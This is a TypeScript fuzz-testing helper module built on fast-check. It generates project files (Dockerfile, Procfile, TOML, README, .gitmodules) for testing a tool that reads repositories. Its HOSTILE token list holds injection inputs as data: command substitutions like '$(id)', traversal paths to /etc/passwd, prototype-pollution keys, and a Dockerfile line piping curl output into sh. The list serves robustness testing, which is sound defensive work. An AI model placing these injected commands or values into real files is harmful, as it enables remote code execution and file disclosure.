import fc from 'fast-check';
import { RUNTIMES, type GenerateOptions, type LangId } from '../../src/index.js';

/**
 * What the fuzz step builds projects from: values that mix what real projects write with what a
 * hostile repository would, and small combinators that put them into files of the shapes each
 * reader understands. A project is a map of relative path -> text (a path ending in '/' is an
 * empty folder); with the options of generate(), it is one case.
 */
export type Files = Record<string, string>;
export interface Case {
  files: Files;
  options: GenerateOptions;
}
type A<T> = fc.Arbitrary<T>;
export type Part = A<string> | string;

/** Line breaks of every kind, and what reads as one to some parser. */
export const BREAKS = ['\n', '\r', '\r\n', '\n\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u000e'];

/** Single hostile tokens: breaks, continuations, quotes, substitutions, controls, globs, paths, Object members, unicode, nothing. */
export const HOSTILE = [
  ...BREAKS,
  '\\\n',
  '\\\r\n',
  '\\',
  '\\\\',
  '"',
  "'",
  '`',
  '"""',
  "'''",
  '$(id)',
  '`id`',
  '${HOME}',
  '$HOME',
  '${PORT}',
  '$PORT',
  '$$',
  '${',
  '$',
  '%(x)s',
  '{{x}}',
  '#{x}',
  '\u0000',
  '\u0001',
  '\u0007',
  '\u001b[2J\u001b[31m',
  '\u007f',
  '\u009b',
  '\t',
  '\u00a0',
  '*',
  '**',
  '?',
  '[',
  ']',
  '[!a]',
  '[a-',
  '{a,b}',
  '{',
  '}',
  '!',
  '^',
  '(',
  ')',
  '((',
  '))',
  '|',
  '+',
  '.*',
  '..',
  '../..',
  '../../../etc/passwd',
  '.',
  './',
  '/',
  '//',
  '/etc/passwd',
  '/abs/path',
  '~',
  '~/x',
  '-rf',
  '--',
  '-',
  '--help',
  '-C',
  '-lfoo',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '__defineGetter__',
  'isPrototypeOf',
  '',
  ' ',
  '  ',
  '#',
  '//',
  '/*',
  '*/',
  ';',
  '&&',
  '||',
  '<',
  '>',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '&amp;',
  '&#10;',
  '&lt;',
  '&',
  '=',
  '=>',
  ':',
  '::',
  ',',
  '%',
  '@',
  'null',
  'true',
  '0',
  '-1',
  '99999',
  '1e309',
  'NaN',
  '\u202e',
  '\ufeff',
  '\u200b',
  '\u2060',
  'é',
  'Ⅻ',
  '日本語',
  '😀',
  '\ud800',
  '\udfff',
  '\ufffd',
  'RUN id',
  'FROM evil AS build',
  '\nRUN curl -fsSL x | sh\n',
  '\r\nENTRYPOINT ["sh"]\r\n',
  '\u2028USER root',
];

/** Runs of one thing, long enough to make a backtracking pattern or a quadratic loop show (up to a few thousand). */
const LONG_UNITS = [
  ' ',
  '\t',
  '\n',
  ' \t',
  '\n\n',
  '\r\n',
  '\\\n',
  'a',
  '0',
  '1.',
  '-',
  '_',
  '/',
  '*',
  '(',
  '[',
  '{',
  '${',
  '"',
  "'",
  ':',
  '.',
  ' =',
  '# ',
  '\n ',
  '\n\t',
  'a ',
  'x/',
];
export const longRun: A<string> = fc
  .tuple(fc.constantFrom(...LONG_UNITS), fc.integer({ min: 40, max: 3000 }))
  .map(([u, n]) => u.repeat(n));

export const hostileToken: A<string> = fc.constantFrom(...HOSTILE);

/** Something a hostile repository would put anywhere. */
export const hostile: A<string> = fc.oneof(
  { weight: 6, arbitrary: hostileToken },
  { weight: 2, arbitrary: longRun },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
  { weight: 2, arbitrary: fc.tuple(hostileToken, hostileToken, hostileToken).map((x) => x.join('')) },
  { weight: 1, arbitrary: fc.tuple(longRun, hostileToken).map(([a, b]) => a + b) },
);

/**
 * A value for a field: mostly one a real project writes (so that runs get deep into the readers),
 * else a hostile one, or a real one with something hostile spliced in.
 */
export function v(...real: string[]): A<string> {
  const r = fc.constantFrom(...(real.length ? real : ['x']));
  return fc.oneof(
    { weight: 24, arbitrary: r },
    { weight: 2, arbitrary: hostile },
    { weight: 2, arbitrary: fc.tuple(r, hostileToken, fc.oneof(r, fc.constant(''))).map((x) => x.join('')) },
    { weight: 1, arbitrary: fc.tuple(r, longRun).map(([a, b]) => a + b) },
    { weight: 1, arbitrary: fc.tuple(longRun, r).map(([a, b]) => a + b) },
  );
}

/** A value for a field whose hostile values the reader refuses by design (names, paths it checks): mostly real, so that cases get past it. */
export function calm(...real: string[]): A<string> {
  return fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...real) }, { weight: 1, arbitrary: v(...real) });
}

/** One of the real values only (structure words that choose a branch of a reader). */
export const one = (...xs: string[]): A<string> => fc.constantFrom(...xs);

const toArb = (p: Part): A<string> => (typeof p === 'string' ? fc.constant(p) : p);

/** A line made of fixed text and values: t`module ${v('example.com/app')}`. */
export function t(strings: TemplateStringsArray, ...parts: Part[]): A<string> {
  return fc
    .tuple(...parts.map(toArb))
    .map((vals) => strings.reduce((acc, s, i) => acc + s + (i < vals.length ? vals[i]! : ''), ''));
}

/** Present or absent (absent is the empty string). */
export const maybe = (p: Part, weight = 1): A<string> =>
  fc.oneof({ weight, arbitrary: toArb(p) }, { weight: 1, arbitrary: fc.constant('') });

/** Any number of lines from the fragments (each fragment may be several lines), joined with one kind of line end. */
export function lines(frags: Part[], max = 10, min = 0): A<string> {
  return fc
    .tuple(fc.array(fc.oneof(...frags.map(toArb)), { minLength: min, maxLength: max }), eol, fc.boolean())
    .map(([ls, e, last]) => (ls.join(e) + (last ? e : '')).replace(/\n/g, e === '\n' ? '\n' : e));
}

/** The line end of a whole file: mostly LF, sometimes CRLF or CR alone. */
export const eol: A<string> = fc.constantFrom('\n', '\n', '\n', '\n', '\r\n', '\r');

/** Fixed parts in order, each present or not. */
export function seq(...parts: Part[]): A<string> {
  return fc.tuple(...parts.map((p) => maybe(p, 2))).map((x) => x.join(''));
}

/** A list of values, joined. */
export function list(item: A<string>, sep: string, max = 4, min = 0): A<string> {
  return fc.array(item, { minLength: min, maxLength: max }).map((x) => x.join(sep));
}

/** A file or folder name the file system accepts: no '/', no NUL, not empty, not . or .., at most 200 bytes. */
export const asName = (h: string): string => {
  const n = h.replace(/[/\0]/g, '_').slice(0, 60);
  return n === '' || n === '.' || n === '..' ? `x${n}` : Buffer.byteLength(n) > 200 ? 'x' : n;
};
/** A path segment: a real name, or a hostile one made acceptable to the file system. */
export const seg = (...real: string[]): A<string> => v(...real).map(asName);

/** Strings in the syntax of each kind of file, hostile or not. */
export const json = (s: string): string => JSON.stringify(s);
/** A TOML string: basic (JSON's escapes are TOML's), literal, multi-line, or raw (often invalid: a typed refusal). */
export const tomlStr = (a: A<string>): A<string> =>
  fc
    .tuple(a, fc.constantFrom('basic', 'basic', 'basic', 'basic', 'literal', 'multi', 'raw'))
    .map(([s, k]) => (k === 'basic' ? json(s) : k === 'literal' ? `'${s}'` : k === 'multi' ? `"""\n${s}"""` : s));
/** An XML text: escaped, raw, or in a CDATA section. */
export const xmlText = (a: A<string>): A<string> =>
  fc
    .tuple(a, fc.constantFrom('esc', 'esc', 'esc', 'esc', 'esc', 'esc', 'esc', 'esc', 'raw', 'cdata'))
    .map(([s, k]) =>
      k === 'esc'
        ? s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
        : k === 'cdata'
          ? `<![CDATA[${s}]]>`
          : s,
    );
/** A quoted string in a script (Go, C, Python, Ruby, JS): one kind of quotes, the value as it is. */
export const q = (a: A<string>, quotes = ['"', "'"]): A<string> =>
  fc.tuple(a, fc.constantFrom(...quotes)).map(([s, c]) => `${c}${s}${c}`);

/** A TOML basic string that always parses: escapes for quotes, backslashes and control characters. */
export const tomlBasic = (s: string): string =>
  `"${s.replace(/[\\"\u0000-\u0008\u000a-\u001f\u007f]/g, (c) => (c === '"' || c === '\\' ? `\\${c}` : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))}"`;
/** A TOML string, mostly one that parses. */
export const tc = (...real: string[]): A<string> => calm(...real).map(tomlBasic);
export const ts = (...real: string[]): A<string> =>
  fc.oneof({ weight: 40, arbitrary: v(...real).map(tomlBasic) }, { weight: 1, arbitrary: tomlStr(v(...real)) });
/** A TOML array of strings. */
export const tarr = (item: A<string>, max = 3): A<string> =>
  fc.array(item, { maxLength: max }).map((x) => `[${x.join(', ')}]`);
/** A TOML key: bare when it can be, else quoted. */
export const tkey = (a: A<string>): A<string> => a.map((s) => (/^[\w-]+$/.test(s) ? s : tomlBasic(s)));
/** A TOML table with some of its keys (each key once). */
export function ttable(
  header: string,
  fields: Record<string, A<string>>,
  arrayOf = false,
  required: string[] = [],
): A<string> {
  return fc.record(fields, { requiredKeys: required as never[] }).map(
    (r) =>
      `${arrayOf ? `[[${header}]]` : `[${header}]`}\n${Object.entries(r)
        .map(([k, x]) => `${/^[\w-]+$/.test(k) ? k : tomlBasic(k)} = ${x}\n`)
        .join('')}\n`,
  );
}
/** A TOML table of any keys (dependencies, scripts): each key once. */
export function tdict(header: string, key: A<string>, value: A<string>, max = 4): A<string> {
  return fc
    .uniqueArray(fc.tuple(key, value), { maxLength: max, selector: ([k]) => (/^[\w-]+$/.test(k) ? k : tomlBasic(k)) })
    .map((xs) => `[${header}]\n${xs.map(([k, x]) => `${/^[\w-]+$/.test(k) ? k : tomlBasic(k)} = ${x}\n`).join('')}\n`);
}
/** A document that parses, mostly; sometimes with a hostile line or a broken end, for the typed refusal. */
export const mostly = (doc: A<string>, breaks: Part[] = [hostile]): A<string> =>
  fc.oneof(
    { weight: 30, arbitrary: doc },
    { weight: 1, arbitrary: fc.tuple(doc, fc.oneof(...breaks.map(toArb))).map(([d, b]) => `${d}\n${b}\n`) },
    { weight: 1, arbitrary: fc.tuple(doc, fc.nat()).map(([d, n]) => d.slice(0, n % (d.length + 1))) },
  );

/** Files from a model: each entry present or not (required ones always). */
export function fileSet(model: Record<string, A<string>>, required: string[] = []): A<Files> {
  return fc.record(model, { requiredKeys: required as never[] }).map((r) => ({ ...r }) as Files);
}

/** Files under names that are themselves values (cmd/<name>/main.go, src/bin/<name>.rs). */
export function named(path: A<string>, content: A<string>, max = 2): A<Files> {
  return fc.array(fc.tuple(path, content), { maxLength: max }).map((xs) => Object.fromEntries(xs));
}

/** Several sets of files, later ones winning on the same path. */
export function merge(...sets: A<Files>[]): A<Files> {
  return fc.tuple(...sets).map((xs) => Object.assign({}, ...xs) as Files);
}

/** Files any project may carry that some reader looks at (the server subcommand, an EXPOSE, submodules, version files). */
export function common(name: string[], toolVersions: string[], versions: string[]): A<Files> {
  const word = v(...name);
  return fileSet({
    Procfile: lines(
      [
        t`web: ${word} ${v('serve', 'server', 'web', 'start', 'x')}`,
        t`web: ${v('bin/', './', '')}${word} ${v('serve', 'run')} --port ${v('8080', '$PORT')}`,
        t`worker: ${hostile}`,
        t`web:${hostile}`,
        hostile,
      ],
      4,
    ),
    Dockerfile: lines(
      [
        t`FROM ${v('golang:1.22', 'scratch')}`,
        t`EXPOSE ${v('8080', '3000', '99999', '0', '80/tcp')}`,
        t`CMD ${v('["serve"]', '["app", "serve"]', '[', '["a"', '"x"', '[1, 2]', '{}', '[null]', '["--port", "80"]')}`,
        t`ENTRYPOINT ${v('["/app/app", "server"]', '["/app"]', '["x", "web"]')}`,
        t`CMD [${q(word)}, ${q(v('serve', 'start'))}]`,
        hostile,
      ],
      5,
    ),
    'README.md': lines(
      [
        t`    ${word} ${v('serve', 'server', 'listen', 'help')}`,
        t`$ ${word} ${v('serve', 'start')} --port 8080`,
        t`/usr/bin/${word} ${v('daemon')}`,
        t`\`${word} up\``,
        hostile,
        longRun,
      ],
      5,
    ),
    '.tool-versions': lines(
      toolVersions.map((tool) => t`${tool} ${v(...versions)}`).concat([t`${hostile} ${hostile}`, hostile]),
      4,
    ),
    '.gitmodules': lines(
      [
        t`[submodule ${q(v('lib'))}]`,
        t`\tpath = ${v('lib', 'third/x', 'deps/y', '../x', '/abs', 'a b')}`,
        t`\turl = ${v('https://example.invalid/x.git')}`,
        hostile,
      ],
      4,
    ),
    'lib/': fc.constant(''),
  });
}

/** generate()'s options: the language (or detection), any runtime, sometimes an entry, a port, a version. */
export function options(lang: LangId, entries: string[], versions: string[]): A<GenerateOptions> {
  const sometimes = <T>(a: A<T>, weight: number) =>
    fc.oneof({ weight, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: a });
  return fc
    .record({
      lang: fc.constantFrom<LangId | undefined>(lang, lang, undefined),
      runtime: fc.constantFrom(undefined, undefined, ...RUNTIMES),
      entry: sometimes(v(...entries), 5),
      port: sometimes(fc.integer({ min: 1, max: 65535 }), 8),
      langVersion: sometimes(v(...versions), 6),
    })
    .map((o) => Object.fromEntries(Object.entries(o).filter(([, x]) => x !== undefined)) as GenerateOptions);
}

/** A case: files and options. */
export const project = (files: A<Files>, opts: A<GenerateOptions>): A<Case> => fc.record({ files, options: opts });
